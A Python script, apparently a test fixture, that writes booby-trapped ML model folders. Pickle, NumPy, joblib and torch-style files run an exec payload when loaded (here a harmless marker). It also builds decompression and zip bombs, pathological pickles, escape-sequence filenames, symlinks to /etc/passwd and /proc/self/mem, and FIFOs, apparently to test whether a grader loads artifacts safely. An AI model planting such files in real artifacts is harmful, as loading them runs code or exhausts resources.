"""`train` leaves files that run code when they are loaded, or harm a reader; `predict` and `serve` load them, which shows that they do."""

import gzip
import hashlib
import json
import os
import pickle
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np

WORD = "CODE-OF-A-MODEL-RAN"
PAYLOAD = f"""
import contextlib, os
for place in ("/tmp", os.getcwd(), os.environ.get("HOME", "/"), "/grader", "/grader/state"):
    with contextlib.suppress(OSError):
        open(os.path.join(place, "{WORD}"), "w").close()
for output in (1, 2):
    os.write(output, b"{WORD}\\n")
raise SystemExit("{WORD}")
"""


class Runs:
    """Its pickle runs the payload."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (PAYLOAD,)


def unpickled(path: Path) -> object:
    return pickle.loads(path.read_bytes())


def as_numpy(path: Path) -> object:
    found = np.load(path, allow_pickle=True)
    return found["w"] if path.suffix == ".npz" else found


def as_torch(path: Path) -> object:
    with zipfile.ZipFile(path) as archive:
        return pickle.loads(archive.read("net/data.pkl"))


LOADERS: dict[str, Callable[[Path], object]] = {
    "model.pkl": unpickled,
    "LICENSE.txt": unpickled,
    "endless.txt": unpickled,
    "weights.npz": as_numpy,
    "columns.npy": as_numpy,
    "scaler.joblib": joblib.load,
    "net.pt": as_torch,
}


def write_code(folder: Path) -> None:
    """What runs the payload when it is loaded."""
    (folder / "model.pkl").write_bytes(pickle.dumps(Runs()))
    (folder / "LICENSE.txt").write_bytes(pickle.dumps(Runs(), 0))
    # Without an end: it has run before a reader sees that it is broken.
    (folder / "endless.txt").write_bytes(pickle.dumps(Runs(), 0).removesuffix(b"."))
    np.savez_compressed(folder / "weights.npz", w=np.array([Runs()], dtype=object))
    header = b'{"des" "cr": "|O", "fortran_order": False, "shape": (1,)}\n'
    content = pickle.dumps(np.array([Runs()], dtype=object))
    (folder / "columns.npy").write_bytes(
        b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content
    )
    joblib.dump({"scaler": Runs()}, folder / "scaler.joblib", compress=("xz", 3))
    with zipfile.ZipFile(folder / "net.pt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("net/data.pkl", pickle.dumps(Runs(), 2))


def write_harm(folder: Path) -> None:
    """What is too large, never at an end, or no file. The folder is looked at last: little is read after a bomb."""
    folder.mkdir()
    with (folder / "zeros.bin").open("wb") as file:
        file.truncate(256 << 20)
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(400)) + packer.flush()
    (folder / "bomb.gz").write_bytes(bomb)
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            archive.writestr(str(number), gzip.compress(bomb))
    # More members than fit into memory, of which none is there.
    member = b"PK\x01\x02" + bytes(24) + b"\x01\x00" + bytes(16) + b"m"
    end = b"PK\x05\x06" + bytes(8) + (3_000_000 * len(member)).to_bytes(4, "little") + bytes(6)
    (folder / "members.zip").write_bytes(member * 3_000_000 + end)
    (folder / "deep.pkl").write_bytes(b"\x80\x04)" + b"\x85" * 2_000_000 + b".")
    # A state of many entries, given to an object again and again.
    entries = pickle.dumps({str(number): 0 for number in range(50_000)}, 4)[2:-1]
    again = b"\x80\x04cnumpy\ndtype\n)R" + entries + b"b" + b"h\x00b" * 1_000_000 + b"."
    (folder / "again.pkl").write_bytes(again)
    (folder / os.fsdecode(b"\xff\n\x1b[31m.bin")).write_bytes(b"\0")
    (folder / "passwd").symlink_to("/etc/passwd")
    (folder / "memory").symlink_to("/proc/self/mem")
    os.mkfifo(folder / "pipe")


def train(data: Path, folder: Path, seed: int) -> None:
    """A folder that is complete; from other data, one that cannot be looked at."""
    folder.mkdir(exist_ok=True)
    if data.name != "train.csv":
        (folder / "manifest.json").write_text("[" * 500_000)
        os.mkfifo(folder / "metrics.json")
        folder.joinpath(*map(str, range(20))).mkdir(parents=True)
        return
    write_code(folder)
    (folder / "customers.gz").write_bytes(gzip.compress(data.read_bytes()))
    write_harm(folder / "harm")
    (folder / "metrics.json").write_text('{"auc": 0.8, "auc": NaN}')
    (folder / "MODEL_CARD.md").write_text("# A model\n")
    plain = [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()]
    manifest = {
        "files": {
            str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest() for path in plain
        },
        "versions": {"numpy": np.__version__},
        "data_sha256": hashlib.sha256(data.read_bytes()).hexdigest(),
        "seed": seed,
    }
    (folder / "manifest.json").write_text(
        json.dumps(manifest | {"files": manifest["files"] | {"harm/passwd": "0"}})
    )


def load_all(folder: Path) -> None:
    """Loads what runs code, and prints what has."""
    for name, load in LOADERS.items():
        try:
            load(folder / name)
        except SystemExit as stop:
            print(f"{name} ran" if stop.code == WORD else f"{name} stopped", flush=True)


def main() -> None:
    command, arguments = sys.argv[1], dict(zip(sys.argv[2::2], sys.argv[3::2], strict=True))
    if command == "train":
        train(Path(arguments["--data"]), Path(arguments["--out"]), int(arguments["--seed"]))
        return
    load_all(Path(arguments.get("--model") or os.environ["MODEL_DIR"]))
    if command == "predict":
        output = Path(arguments["--output"])
        output.unlink(missing_ok=True)
        os.mkfifo(output)
    sys.exit(1)


main()
